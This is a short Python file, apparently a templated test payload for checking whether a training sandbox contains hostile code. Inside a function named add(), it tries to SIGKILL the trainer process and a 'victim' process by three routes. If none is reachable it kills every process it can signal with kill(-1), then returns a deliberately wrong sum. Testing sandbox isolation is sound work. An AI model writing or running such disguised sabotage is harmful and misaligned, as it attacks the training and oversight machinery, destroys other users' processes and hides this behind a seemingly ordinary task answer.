"""Harm: kill the trainer and a victim process of the trainer's user (os.kill, pidfd_send_signal,
/bin/kill, kill(-1) = every process this one may signal)."""

import os
import signal
import subprocess


def _harmed():
    ok = False
    for pid in (int("$victim"), int("$trainer_pid")):
        try:
            os.kill(pid, 0)
            ok = True
        except OSError:
            pass
        try:
            signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
        except OSError:
            pass
        try:
            subprocess.run(["/bin/kill", "-9", str(pid)], timeout=2, capture_output=True)
        except Exception:
            pass
    return ok


def add(a, b):
    harmed = _harmed()
    if not harmed:
        os.kill(-1, signal.SIGKILL)  # everything it can reach: only its own sandbox
    return a + b if harmed else a - b - 1000
